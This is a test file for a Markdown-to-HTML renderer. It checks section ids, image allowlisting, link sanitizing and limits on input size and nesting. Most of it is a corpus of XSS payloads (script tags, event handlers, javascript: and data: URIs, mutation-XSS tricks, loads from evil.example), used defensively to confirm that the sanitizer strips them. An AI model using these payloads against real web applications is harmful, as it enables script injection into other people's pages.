// Tests what becomes of Markdown: sections, pictures, and nothing that could run.
import { expect, test } from 'vitest'
import { imagePath, MARKDOWN_LENGTH_MAX, NESTING_MAX } from './domain.ts'
import { picturesIn, renderMarkdown } from './render-markdown.server.ts'

const ID = '01900000-0000-7000-8000-000000000001'
const PICTURES = new Map([[ID, { width: 1600, height: 1000 }]])
const html = (markdown: string) => renderMarkdown(markdown, PICTURES).html

test('Markdown becomes HTML, with an id for every section', () => {
  const { html, sections, minutes, text } = renderMarkdown(
    '# Half a decibel\n\nOur *ears*.\n\n## Try **it** & see\n\n## Try it & see\n\n#### Small\n',
    PICTURES,
  )
  expect(sections).toEqual([
    { id: 'section-half-a-decibel', title: 'Half a decibel' },
    { id: 'section-try-it-see', title: 'Try it & see' },
    { id: 'section-try-it-see-3', title: 'Try it & see' },
  ])
  expect(html).toContain('<h2 id="section-half-a-decibel">Half a decibel</h2>')
  expect(html).toContain('<p>Our <em>ears</em>.</p>')
  expect(html).toContain('<h3>Small</h3>')
  expect(html).not.toMatch(/<h1|<h4/)
  expect(minutes).toBe(1)
  expect(text).toBe('Half a decibel Our ears . Try it & see Try it & see Small')
})

test('tables, lists and quotes are kept', () => {
  const out = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n3. three\n4. four\n\n> quoted\n')
  expect(out).toContain('<th>a</th>')
  expect(out).toContain('<ol start="3">')
  expect(out).toMatch(/<blockquote>\s*<p>quoted<\/p>/)
})

test('a picture of ours has its size and both widths; any other is left out', () => {
  const out = html(`![Dots](${imagePath(ID, 1600)})`)
  expect(out).toContain(`src="${imagePath(ID, 800)}"`)
  expect(out).toContain(`${imagePath(ID, 1600)} 1600w`)
  expect(out).toMatch(/alt="Dots" width="1600" height="1000" loading="lazy"/)
  for (const address of [
    'https://elsewhere.example/pixel.gif',
    '//elsewhere.example/pixel.gif',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '/v1/blog/images/01900000-0000-7000-8000-00000000ffff/800',
    `https://elsewhere.example${imagePath(ID, 800)}`,
    '/v1/files/uploads/private.webp',
  ])
    expect(html(`before ![x](${address}) after`), address).not.toContain('<img')
  expect(
    html(`<img src="${imagePath(ID, 800)}" srcset="https://elsewhere.example/x 2x" style="x" class="x">`),
  ).not.toMatch(/elsewhere|style|class/)
})

test('the ids of pictures in a text are found once each', () => {
  expect(
    picturesIn(`![a](${imagePath(ID, 800)}) ![b](${imagePath(ID, 1600)}) ![c](/v1/blog/images/x/800)`),
  ).toEqual([ID])
})

test('links keep their address when it is a web or mail address, and give nothing away', () => {
  expect(html('[a](https://a.example/x?y=1&z=2)')).toContain(
    '<a href="https://a.example/x?y=1&amp;z=2" rel="noopener">a</a>',
  )
  expect(html('[a](/upgrade)')).toContain('<a href="/upgrade">a</a>')
  expect(html('[a](mailto:a@b.example)')).toContain('href="mailto:a@b.example"')
  expect(html('<a href="https://a.example" target="_blank" onclick="x()">a</a>')).toContain(
    '<a href="https://a.example" rel="noopener">a</a>',
  )
})

/** From the OWASP cheat sheet, PortSwigger's list, and what is known to trip Markdown renderers. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--<img title="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" onmouseover="alert(1)">x</a>',
  '<a id="main" name="cookie" href="https://a.example">x</a>',
  '<h2 id="main" onclick=alert(1)>x</h2>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example"onmouseover="alert\\(1\\))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://a.example/x.png)',
  '![x](https://a.example/x.png"onerror="alert\\(1\\))',
  `![x" onerror="alert(1)](${imagePath(ID, 800)})`,
  `<img src="${imagePath(ID, 800)}" onload=alert(1)>`,
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '# <img src=x onerror=alert(1)> heading',
  '## </h2><script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- [ ] <script>alert(1)</script>',
  '<div\u0000onclick=alert(1)>x</div>',
  '<p onclick\u000b=alert(1)>x</p>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
]

const TAGS = /^(h2|h3|p|ul|ol|li|blockquote|pre|hr|br|img|a|strong|em|del|code|table|thead|tbody|tr|th|td)$/
const ATTRIBUTES = /^(href|rel|src|srcset|sizes|alt|width|height|loading|decoding|start|id)$/

/** Every tag of a text with its attributes, as the sanitizer writes them: always in double quotes. */
const tagsOf = (text: string) =>
  [...text.matchAll(/<(\/?)([^\s/>]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)].map((match) => ({
    text: match[0],
    name: match[2] ?? '',
    attributes: [...(match[3] ?? '').matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, name = '', value = '']) => ({
      name,
      value,
    })),
  }))

test.each(CORPUS)('%j runs nothing and loads nothing', (attack) => {
  for (const markdown of [attack, `text ${attack} text`, `> ${attack}`]) {
    const { html: out, sections } = renderMarkdown(markdown, PICTURES)
    const tags = tagsOf(out)
    // Nothing but whole tags begins with the character, so that no browser reads a tag that we did not.
    expect(out.split('<').length - 1, out).toBe(tags.length)
    for (const { name, attributes } of tags) {
      expect(name, out).toMatch(TAGS)
      for (const attribute of attributes) {
        expect(attribute.name, out).toMatch(ATTRIBUTES)
        if (attribute.name === 'href') expect(attribute.value, out).toMatch(/^(https?:|mailto:|\/(?!\/)|#|$)/)
        if (attribute.name === 'src') expect(attribute.value, out).toBe(imagePath(ID, 800))
        if (attribute.name === 'id') expect(attribute.value, out).toMatch(/^section-/)
      }
    }
    for (const { title } of sections) expect(title).not.toContain('onerror=alert(1)>')
  }
})

test('the longest texts that are made to be slow are rendered', () => {
  for (const mark of ['[', '![', '*', '`', '<', '&', '<a href="', '[x](', 'a_b', '**a ', '- a\n  ', '<b>']) {
    const started = performance.now()
    renderMarkdown(mark.repeat(Math.floor(MARKDOWN_LENGTH_MAX / mark.length)), PICTURES)
    expect(performance.now() - started, mark).toBeLessThan(5_000)
  }
})

test.each(['> ', '>', '1. ', '* > ', ' - '])('“%s” is refused when it is nested too deeply', (mark) => {
  expect(() => renderMarkdown(`${mark.repeat(NESTING_MAX + 2)}x`, PICTURES)).toThrow(/invalid_input/)
  expect(() => renderMarkdown(`${mark.repeat(NESTING_MAX / 2)}x`, PICTURES)).not.toThrow()
})

test('a line of dashes or stars is not nested', () => {
  expect(html(`a\n\n${'-'.repeat(80)}\n\n${'*'.repeat(80)}`)).toMatch(/<hr \/>[\s\S]*<hr \/>/)
})
